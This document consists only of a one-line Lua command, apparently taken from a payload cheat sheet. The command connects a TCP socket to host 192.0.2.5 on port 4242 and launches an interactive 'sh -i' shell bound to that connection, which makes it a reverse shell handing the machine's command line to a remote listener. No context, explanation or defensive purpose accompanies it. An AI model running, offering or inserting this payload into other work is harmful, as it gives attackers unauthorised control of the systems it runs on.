lua -e "require('socket');require('os');t=socket.tcp();t:connect('192.0.2.5','4242');os.execute('sh -i <&3 >&3 2>&3');"
